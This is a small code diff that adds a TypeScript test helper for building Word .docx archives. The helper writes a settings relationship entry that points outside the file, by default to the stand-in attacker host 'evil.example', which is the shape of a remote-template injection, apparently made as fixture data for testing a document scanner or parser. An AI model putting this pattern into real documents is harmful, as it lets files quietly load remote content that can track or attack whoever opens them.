@@ -80,3 +80,9 @@ export function makeTextDocx(text: string, more: ZipEntry[] = [], inner = ''): B
     ...more,
   ]);
 }
+
+/** A part of a Word document that leads from its settings to something else, by default elsewhere. */
+export const relation = (type: string, mode = 'TargetMode="External"'): ZipEntry => ({
+  name: 'word/_rels/settings.xml.rels',
+  content: `<Relationships><Relationship Id="r" Type="http://x/relationships/${type}" Target="${mode && 'http://evil.example/'}a" ${mode}/></Relationships>`,
+});
